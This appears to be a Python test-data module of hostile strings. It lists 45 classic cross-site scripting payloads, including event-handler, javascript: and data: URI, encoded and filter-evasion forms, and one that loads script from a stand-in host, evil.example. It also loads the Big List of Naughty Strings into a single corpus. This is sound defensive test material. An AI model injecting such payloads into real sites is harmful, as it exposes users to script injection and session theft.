"""Hostile strings: classic XSS vectors plus the Big List of Naughty Strings."""
from __future__ import annotations

import json
from pathlib import Path

VECTORS = [
    "<script>alert('xss-1')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert('xss-2')>",
    "<img src=\"javascript:alert('xss-3')\">",
    "<svg onload=alert('xss-4')>",
    "<svg><script>alert('xss-5')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('xss-6')\"><text x=20 y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-7')>",
    "<body onload=alert('xss-8')>",
    "<iframe src=\"javascript:alert('xss-9')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('xss-10')</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert('xss-11')</script>\"></object>",
    "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxMik8L3NjcmlwdD4=\">",
    "<a href=\"javascript:alert('xss-13')\">click</a>",
    "[click](javascript:alert('xss-14'))",
    "[click](JaVaScRiPt:alert('xss-15'))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxNik8L3NjcmlwdD4=)",
    "![x](javascript:alert('xss-17'))",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('xss-18')\">x</a>",
    "<div style=\"background:url(javascript:alert('xss-19'))\">x</div>",
    "<details open ontoggle=alert('xss-20')>",
    "<input autofocus onfocus=alert('xss-21')>",
    "<form action=\"javascript:alert('xss-22')\"><button>go</button></form>",
    "<button formaction=\"javascript:alert('xss-23')\">go</button>",
    "<video><source onerror=alert('xss-24')></video>",
    "<audio src=x onerror=alert('xss-25')>",
    "<marquee onstart=alert('xss-26')>x</marquee>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('xss-27')\">",
    "<base href=\"javascript:alert('xss-28')//\">",
    "<link rel=stylesheet href=\"javascript:alert('xss-29')\">",
    "<style>@import 'javascript:alert(\"xss-30\")';</style>",
    "<img src=x:alert(alt) onerror=eval(src) alt='xss-31'>",
    "\"><script>alert('xss-32')</script>",
    "'><img src=x onerror=alert('xss-33')>",
    "</textarea><script>alert('xss-34')</script>",
    "</title><script>alert('xss-35')</script>",
    "<<script>script>alert('xss-36')<</script>/script>",
    "<scr<script>ipt>alert('xss-37')</scr</script>ipt>",
    "<img src=`x` onerror=alert('xss-38')>",
    "<p title=\"</p><img src=x onerror=alert('xss-39')>\">x</p>",
    "<!--<img src=\"--><img src=x onerror=alert('xss-40')//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss-41')>\">",
    "{{7*7}}<span>{{constructor.constructor('alert(42)')()}}</span>",
    "<template><script>alert('xss-43')</script></template>",
    "<a href=\"vbscript:msgbox('xss-44')\">x</a>",
]


def blns() -> list[str]:
    """The Big List of Naughty Strings (tests/data/blns.json)."""
    return json.loads((Path(__file__).resolve().parents[1] / "data" / "blns.json").read_text(encoding="utf-8"))


def corpus() -> list[str]:
    """Every hostile string, the classic vectors first; empty strings left out."""
    seen, strings = set(), []
    for value in VECTORS + blns():
        if value and value.strip() and value not in seen:
            seen.add(value)
            strings.append(value)
    return strings
